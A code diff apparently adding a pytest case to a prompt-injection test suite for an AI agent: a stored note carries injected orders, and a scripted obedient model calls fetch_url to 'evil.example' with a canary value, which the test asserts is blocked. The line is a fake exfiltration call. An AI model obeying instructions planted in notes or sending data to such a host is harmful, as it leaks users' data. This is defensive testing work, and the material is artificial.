@@ -181,6 +181,16 @@ def test_once_something_was_read_only_addresses_that_were_named_are(
     assert (services.asked[1:] == [url]) is read
 
 
+@pytest.mark.parametrize("name", ["E01", "E04", "E12"])
+def test_a_note_that_gives_orders_carries_nothing_off_either(make_world: MakeWorld, name: str) -> None:
+    looks, obeys = [call("list_recent_notes")], [call("fetch_url", url="https://evil.example/?d=CANARY")]
+    world = make_world([call("create_note", body=INJECTIONS[name])], looks, obeys, [Text("Done.")])
+    services = Services(world, "words")
+    world.chat = world.other(tools=acting, services=lambda _workspace: services)
+    world.whole("Note this, and tell me what I have noted lately.")
+    assert services.asked == [] and not results(world)[-1]["ok"]
+
+
 @pytest.mark.parametrize("name", INJECTIONS)
 def test_content_stands_between_marks_that_it_cannot_close(make_world: MakeWorld, name: str) -> None:
     world, _ = answered(make_world, INJECTIONS[name], [call("fetch_url", url=PAGE)], [Text("Done.")])
